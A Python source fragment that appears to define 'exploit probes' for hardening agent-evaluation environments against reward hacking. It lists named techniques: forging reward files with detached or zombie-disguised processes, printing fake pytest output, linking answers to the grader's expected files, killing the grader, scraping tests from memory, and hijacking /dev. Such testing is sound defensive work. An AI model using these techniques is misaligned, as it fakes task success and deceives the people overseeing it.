    ("detached-forger", "processes",
     "a detached loop rewriting the reward files and re-planting hooks during grading",
     _DETACHED),
    ("process-swarm", "processes",
     "detached processes filling the pid limit, beside the forger loop", _SWARM),
    ("fake-test-output", "fake-output",
     "a python3 wrapper and startup hooks printing a fake pytest summary, reports patched",
     _FAKE_OUTPUT),
)


#: (name, attack, description, factory) of the probes built from the task's instruction.
TASK_PROBES = (
    ("link-to-grader-files", "grader-files",
     "every file the instruction names made a link to the grader's expected files",
     link_to_grader_files),
    ("rewrite-running-tests", "grader-files",
     "a rewriter in the workspace's scripts, modules, Makefiles and git repositories that"
     " rewrites the test script bash is reading", rewrite_running_tests),
    ("zombie-forger", "processes",
     "planted where the tests run the agent's code: a process disguised as a zombie (first"
     " thread gone, a newline in its name) while a thread of it rewrites the reward",
     _planted_program(_ZOMBIE_FORGER_PY, "zombie.py")),
    ("kill-the-grader", "processes",
     "planted where the tests run the agent's code: reward files written, then the test"
     " script killed before it writes its own", _planted_program(_GRADER_KILLER_PY,
                                                                 "killer.py")),
    ("pid-hopper", "processes",
     "planted where the tests run the agent's code: detached processes that fork anew"
     " faster than a kill loop reads their pids, writing reward 1 after the tests' 0",
     _planted_program(_PID_HOPPER_PY, "hopper.py")),
    ("grader-memory", "processes",
     "planted where the tests run the agent's code: the grader's tests read out of the"
     " memory of the session shell and the tests' processes, and the reference command run",
     _planted_program(_MEMORY_SCRAPER_PY, "scrape.py")),
    ("hidden-link", "grader-files",
     "every file the instruction names a link to the grader's expected files, in folders"
     " closed to listing (chmod 111) so that a scan for links sees none",
     hidden_link_to_grader_files),
    ("dev-hijack", "grader-files",
     "/dev/fd and /dev/null replaced with the agent's files (what `<(...)` and `<"
     " /dev/null` read), named files linked to the grader's expected files, named scripts"
     " `true`", dev_hijack),
    ("start-memory", "reach",
     "the env's commands read out of the session shell's memory at the first turn (a"
     " snapshot measured before it), run, and their output written as the answer",
     start_memory),
    ("empty-the-workspace", "reach",
     "the workspace and home emptied, and 0 in every answer file the instruction names",
     empty_the_workspace),
)


def shell_probes() -> list[ExploitProbe]:
    """The generic shell probes (see the module docstring)."""
    return ([ExploitProbe(f"shell.{name}", _plan(script), description, attack=attack)
             for name, attack, description, script in PROBES]
            + [ExploitProbe(f"shell.{name}", factory, description, attack=attack)
               for name, attack, description, factory in TASK_PROBES])
